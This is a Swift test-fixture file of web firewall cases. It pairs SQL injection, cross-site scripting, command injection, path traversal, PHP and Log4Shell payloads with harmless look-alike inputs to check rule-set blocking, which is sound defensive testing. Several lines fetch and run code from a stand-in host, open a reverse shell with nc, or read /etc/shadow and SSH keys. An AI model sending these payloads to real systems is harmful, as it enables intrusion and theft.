/// A request, and whether the core rule set refuses it at its first level of paranoia. Written for this project.
struct FirewallCase: Sendable, CustomStringConvertible {
    enum Part: Sendable {
        /// The value of a parameter, percent-encoded on its way.
        case query(String)
        /// A whole target, sent as it is.
        case target(String)
        case header(String, String)
        case body(type: String, String)
    }

    var family: String
    var part: Part
    var isAttack: Bool

    var description: String { "\(family): \(part)" }
}

/// Values that are tried as a parameter of a query and of a form.
enum AttackFamilies {
    static let values: [(family: String, values: [String])] = [
        ("sql", sql), ("script", script), ("command", command), ("local file", localFile), ("remote file", remoteFile),
        ("php", php), ("java", java),
    ]

    static let sql = [
        "1' OR '1'='1", "1' OR 1=1 --", "1 UNION SELECT username, password FROM users", "1; DROP TABLE users",
        "' UNION ALL SELECT NULL,NULL,NULL--", "admin'--", "1' AND SLEEP(5)#",
        "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
        "x' AND 1=(SELECT 1 FROM pg_sleep(5))--", "1' WAITFOR DELAY '0:0:5'--", "' OR EXISTS(SELECT * FROM users)--",
        "1) OR (1=1", "1' ORDER BY 10--", "-1' UNION SELECT 1,version(),3-- -", "'; EXEC xp_cmdshell('dir')--",
        "1/**/UNION/**/SELECT/**/1,2,3", "1' HAVING 1=1--", "' OR 'x'='x'/*", "1; INSERT INTO users VALUES ('a','b')",
        "1' AND extractvalue(1,concat(0x7e,version()))--", "id=1 AND benchmark(1000000,md5(1))",
        "' || (SELECT '') || '",
        "1 OR 1=1", "%' AND 1=0 UNION SELECT null, concat(login,password) FROM accounts--",
        "'; SHUTDOWN WITH NOWAIT; --",
        "1' UNION SELECT @@version,2#", "(select load_file('/etc/passwd'))",
        "1'; SELECT pg_read_file('/etc/passwd');--",
    ]

    static let script = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "<body onload=alert('x')>", "<iframe src=javascript:alert(1)>",
        "\"><script>document.location='//e.example'</script>",
        "<a href=\"javascript:alert(1)\">x</a>", "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<object data=\"data:text/html,<script>alert(1)</script>\">", "<math><mi xlink:href=\"javascript:alert(1)\">",
        "<details open ontoggle=alert(1)>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=\"x\" onmouseover=\"alert(1)\">",
        "<style>@import'javascript:alert(1)';</style>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<form action=javascript:alert(1)><input type=submit>", "<svg><script>alert(1)</script></svg>",
        "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "'-alert(1)-'<script>", "<embed src=javascript:alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    ]

    static let command = [
        "; cat /etc/passwd", "| cat /etc/shadow", "`wget http://e.example/x.sh`", "$(curl http://e.example/x)",
        "; /bin/bash -i",
        "& ping -c 10 127.0.0.1", "; nc -e /bin/sh 10.0.0.1 4444", "|| /usr/bin/id", "; rm -rf /tmp/x",
        "() { :;}; /bin/cat /etc/passwd",
        "; uname -a; id", "| /bin/ls -la", "; python -c 'import os'", "&& whoami",
        "powershell.exe -nop -enc AAAA",
        "; chmod 777 /tmp/x", "$(/bin/sleep 5)", "; curl -s http://e.example | sh", "`/usr/bin/env`",
    ]

    static let localFile = [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/shadow", "....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/proc/self/environ", "../../../../../../var/log/apache2/access.log", "file:///etc/passwd", "../../.ssh/id_rsa",
        "/../../../../boot.ini", "../../../.env", "../../wp-config.php", "/etc/hosts/../passwd", "..;/..;/etc/passwd",
        "../../../../proc/self/cmdline",
    ]

    static let remoteFile = [
        "http://127.0.0.1/x.php", "http://10.0.0.1/shell.txt?", "ftp://192.168.0.7/a.php",
        "https://203.0.113.9/r57.txt?cmd=id",
        "ogg://203.0.113.1/x",
    ]

    static let php = [
        "<?php system('id'); ?>", "<?php eval($_GET['x']);", "php://input",
        "php://filter/convert.base64-encode/resource=index.php",
        "data://text/plain;base64,PD9waHA=", "phar://x.phar/a.php", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "${@print(md5(1))}<?php",
        "base64_decode('c3lzdGVt')", "$_POST['cmd']", "call_user_func('system','id')", "expect://id", "<?= `id` ?>",
    ]

    static let java = [
        "${jndi:ldap://e.example/a}", "${jndi:rmi://e.example/a}", "${${lower:j}ndi:ldap://e.example/a}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "%{(#_='multipart/form-data').(#cmd='id')}java.lang.ProcessBuilder",
        "${jndi:dns://e.example}", "new java.lang.ProcessBuilder('id').start()",
        "org.apache.commons.collections.functors.InvokerTransformer runtime",
    ]

    /// What the core rule set takes for an attack although it is none: a command's name at the start of a text. With these,
    /// an application that takes free texts begins with `mode: count`.
    static let knownFalseAlarms = [
        "wget is a program", "ping me later", "bash the bishop in chess", "echo in the valley", "php developer wanted",
        "java coffee",
    ]

    /// Ordinary texts that resemble attacks.
    static let harmless = [
        "hello world", "O'Reilly", "It's 5 o'clock", "select a colour from the list", "drop me a line", "Rock & Roll",
        "AT&T",
        "1 + 1 = 2", "a < b and b > c", "C:\\Users are welcome", "union of workers", "where are you from?",
        "https://example.com/page?x=1",
        "john.doe@example.com", "+49 (30) 123456", "Müller & Söhne GmbH", "日本語のテキスト", "50% off!", "price: $19.99",
        "#hashtag @mention",
        "Order by phone", "a=b", "key:value;other:value", "[1, 2, 3]", "{\"a\": 1}", "2026-11-24T20:45:00Z",
        "cat and dog", "the script of the play",
        "an image of a cat", "on load, the page is slow", "alert the team", "Please update the table", "insert coin",
        "delete key on my keyboard",
        "group by group", "like nothing else", "and/or", "not null and void", "user's guide", "Terms -- and conditions",
        "see /docs/intro",
        "version 1.2.3", "file.txt", "report.final.pdf", "C++ vs C#", "x^2 + y^2", "<3", "I <3 you", "5 > 3",
        "Smith; John", "(see below)",
        "100,000", "~ approx.", "A|B test", "back`tick", "e = mc^2", "\"quoted\"", "'single'", "...", "etc.", "id card",
        "sleep well", "who am I", "ldap server setup",
        "Robert'); the joke", "100 % of 1=1 pages", "true", "null", "undefined", "NaN", "0", "-1", "1e10", "0x1F",
        "c3VubnkgZGF5", "a b c d e f",
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit", "How do I use the SELECT statement?",
        "Mr. & Mrs. O'Brien-Smith",
        "the <b>bold</b> one", "L'amour & la vie", "naïve café", "Тест", "שלום", "مرحبا", "emoji 🎉🚀", "tab\tseparated",
        "line\nbreak",
    ]
}

/// All cases: at least 300, each sent through the edge by a test.
enum FirewallCases {
    /// Each value in a query, and every second one also in a body of a form, JSON, XML or multipart.
    static let attacks: [FirewallCase] =
        AttackFamilies.values.flatMap { family, values in
            values.enumerated().flatMap { index, value -> [FirewallCase] in
                let query = FirewallCase(family: family, part: .query(value), isAttack: true)
                guard index.isMultiple(of: 2) else { return [query] }
                return [query, FirewallCase(family: family, part: Bodies.part(value, index / 2), isAttack: true)]
            }
        } + requests

    static let harmless: [FirewallCase] =
        AttackFamilies.harmless.enumerated().flatMap { index, value -> [FirewallCase] in
            let query = FirewallCase(family: "harmless", part: .query(value), isAttack: false)
            return [query, FirewallCase(family: "harmless", part: Bodies.part(value, index), isAttack: false)]
        } + harmlessRequests

    /// Attacks on other parts of a request.
    private static let requests: [FirewallCase] = attackRequests.map {
        FirewallCase(family: $0.0, part: $0.1, isAttack: true)
    }

    private static let attackRequests: [(String, FirewallCase.Part)] = [
        ("scanner", .header("user-agent", "sqlmap/1.7")), ("scanner", .header("user-agent", "Nikto/2.5")),
        ("scanner", .header("user-agent", "masscan/1.3")),
        ("java", .header("user-agent", "${jndi:ldap://e.example/a}")),
        ("java", .header("x-api-version", "${jndi:ldap://e.example/a}")),
        ("command", .header("user-agent", "() { :;}; /bin/bash -c id")),
        ("script", .header("referer", "<script>alert(1)</script>")),
        ("script", .header("cookie", "a=<script>alert(1)</script>")),
        ("sql", .header("cookie", "id=1' UNION SELECT 1,2,3--")),
        ("local file", .target("/static/..%2f..%2f..%2f..%2fetc%2fpasswd")), ("local file", .target("/.git/config")),
        ("local file", .target("/.env")), ("local file", .target("/.htaccess")), ("local file", .target("/backup.sql")),
        ("protocol", .header("content-encoding", "gzip")), ("protocol", .header("proxy", "http://e.example")),
        ("unicode", .target("/?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e")),
        ("unicode", .target("/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E")),
        ("name", .target("/?a%27%20OR%201=1--=x")), ("name", .target("/?%3Cscript%3Ealert(1)%3C/script%3E=1")),
        ("json", .body(type: "application/json", "{\"a\": [[{\"b\": \"1' OR '1'='1\"}]]}")),
        ("json", .body(type: "application/problem+json", "{\"a\": \"<script>alert(1)</script>\"}")),
        ("json", .body(type: "text/json", "{\"a\": \"<script>alert(1)</script>\"}")),
        ("json", .body(type: "application/json", "{\"a\": ")), ("xml", .body(type: "text/xml", "<a><b></a>")),
        ("xml", .body(type: "application/soap+xml", "<a><x>1' UNION SELECT 1,2,3--</x></a>")),
        ("java", .header("x-api-version", "${${lower:j}ndi:ldap://e.example/a}")),
        ("java", .target("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D")),
    ]

    private static let harmlessRequests: [FirewallCase] = harmlessParts.map {
        FirewallCase(family: "harmless", part: $0, isAttack: false)
    }

    private static let harmlessParts: [FirewallCase.Part] = [
        .target("/"), .target("/index.html"), .target("/a/b/c?page=2&sort=name&filter=active"),
        .target("/static/app.3f2a1b.js"),
        .target("/images/photo%20of%20me.jpg"), .target("/search?q=caf%C3%A9"), .target("/api/v1/users/42"),
        .target("/?"), .target("/?a"),
        .target("/?a=&b="), .target("/wiki/Rock_%26_Roll"), .target("/~user/"), .target("/a+b?c+d"),
        .target("/favicon.ico"),
        .target("/robots.txt"), .target("/.well-known/acme-challenge/abc"),
        .target("/graphql?query=%7Buser%7Bid%7D%7D"),
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"),
        .header("accept-language", "de-DE,de;q=0.9,en;q=0.8"),
        .header("cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
        .header("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
        .header("referer", "https://www.example.com/search?q=terrace"), .header("if-none-match", "\"abc\""),
        .header("range", "bytes=0-99"),
        .body(type: "application/octet-stream", "\u{1}\u{2}binary"), .body(type: "text/plain", "a plain note"),
        .body(
            type: "application/json",
            "{\"name\": \"O'Reilly\", \"tags\": [\"a\", \"b\"], \"n\": 1.5, \"ok\": true, \"x\": null}"),
        .body(type: "application/xml", "<note><to>Ann</to><text>Hello &amp; goodbye</text></note>"),
        .body(type: "application/graphql", "{ user(id: 4) { name } }"), .body(type: "application/cbor", "\u{a1}\u{61}"),
    ]
}

/// The same value in each kind of body that is inspected.
enum Bodies {
    static func part(_ value: String, _ index: Int) -> FirewallCase.Part {
        switch index % 4 {
        case 0: .body(type: "application/x-www-form-urlencoded", "field=\(percentEncoded(value))&other=1")
        case 1: .body(type: "application/json", "{\"field\": \"\(json(value))\"}")
        case 2: .body(type: "text/xml", "<root><field>\(xml(value))</field></root>")
        default:
            .body(
                type: "multipart/form-data; boundary=part",
                "--part\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\n\(value)\r\n--part--\r\n")
        }
    }

    static func percentEncoded(_ value: String) -> String {
        value.utf8.reduce(into: "") { text, byte in
            let isPlain = (48...57).contains(byte) || (65...90).contains(byte) || (97...122).contains(byte)
            let digits = String(byte, radix: 16, uppercase: true)
            text += isPlain ? String(UnicodeScalar(byte)) : byte < 16 ? "%0\(digits)" : "%\(digits)"
        }
    }

    private static func json(_ value: String) -> String {
        value.unicodeScalars.reduce(into: "") { text, scalar in
            switch scalar {
            case "\"", "\\": text += "\\\(scalar)"
            case "\n": text += "\\n"
            case "\t": text += "\\t"
            default: text.unicodeScalars.append(scalar)
            }
        }
    }

    private static func xml(_ value: String) -> String {
        value.replacing("&", with: "&amp;").replacing("<", with: "&lt;").replacing(">", with: "&gt;")
    }
}
